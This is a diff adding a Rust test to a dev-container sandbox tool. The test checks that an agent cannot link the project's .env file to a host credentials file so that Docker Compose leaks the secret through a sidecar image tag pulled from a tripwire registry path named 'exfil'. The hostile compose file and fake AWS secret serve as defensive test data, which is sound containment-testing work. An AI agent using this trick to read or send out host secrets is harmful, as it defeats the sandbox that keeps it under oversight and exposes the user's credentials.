@@ -1535,3 +1535,67 @@ fn a_service_build_in_a_closed_handoff_has_no_network() {
     assert_eq!(listener.hits(), 0);
     assert!(project_containers(&project).is_empty());
 }
+
+/// Attack (issue 25, N17): the agent links `.devcontainer/.env` (the project's env file, beside
+/// the Compose file) to a host secret file, dangling inside the container and resolved on the
+/// host. Compose read it as the project's `.env` and interpolated its `key=value` lines: the
+/// secret went out in a registry request (a sidecar's image tag) and into the container's
+/// environment. devcell reads the env file itself and hands Compose its own copy: the link is
+/// a request (`--allow compose-file:<the secret's path>`), nothing is pulled or created, and
+/// the secret is in no output. A regular `.env` in the workspace still reaches the container.
+#[test]
+fn a_project_env_file_linked_to_a_host_secret_is_never_read_by_compose() {
+    let Some(ctx) = TestContext::busybox("hostile_compose_dot_env_link") else {
+        return;
+    };
+    let ctx = ctx.isolated();
+    let project = own_project(&ctx);
+    let (port, hits) = tripwire();
+    let hits = || hits.load(std::sync::atomic::Ordering::SeqCst);
+    let host = tempfile::tempdir().expect("tempdir");
+    let secret_file = host.path().join("credentials");
+    std::fs::write(
+        &secret_file,
+        "[default]\naws_secret_access_key=HOSTSECRET123abc\n",
+    )
+    .unwrap();
+    let secret_path = secret_file.canonicalize().unwrap().display().to_string();
+    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
+    let app = format!(
+        "  app:\n    image: {BUSYBOX_IMAGE}\n    command: [\"sleep\", \"100000\"]\n    environment:\n      LEAK: \"${{aws_secret_access_key:-none}}\"\n"
+    );
+    ctx.write(
+        ".devcontainer/docker-compose.yml",
+        &format!(
+            "services:\n{app}  side:\n    image: \"127.0.0.1:{port}/exfil/env:${{aws_secret_access_key:-none}}\"\n"
+        ),
+    );
+    let dot_env = ctx.path().join(".devcontainer/.env");
+    std::os::unix::fs::symlink(&secret_file, &dot_env).unwrap();
+    for command in ["up", "build"] {
+        let refused = ctx.run(command, &[]);
+        let stderr = refused.failed();
+        assert!(
+            stderr.contains(&format!("--allow compose-file:{secret_path}")),
+            "{command}: {stderr}"
+        );
+        assert!(!stderr.contains("HOSTSECRET"), "{command}: {stderr}");
+        assert!(!refused.stdout.contains("HOSTSECRET"), "{command}");
+        assert_eq!(hits(), 0, "{command}: the secret's tag was pulled");
+        assert!(project_containers(&project).is_empty(), "{command}");
+    }
+    // a regular `.env` of the repository: its values reach the container through devcell's copy
+    std::fs::remove_file(&dot_env).unwrap();
+    ctx.write(
+        ".devcontainer/.env",
+        "aws_secret_access_key=from-the-repository\n",
+    );
+    ctx.write(
+        ".devcontainer/docker-compose.yml",
+        &format!("services:\n{app}"),
+    );
+    ctx.run("up", &[]).ok();
+    let (code, out, err) = ctx.sh("printf %s \"$LEAK\"");
+    assert_eq!((code, out.as_str()), (0, "from-the-repository"), "{err}");
+    assert_eq!(hits(), 0);
+}
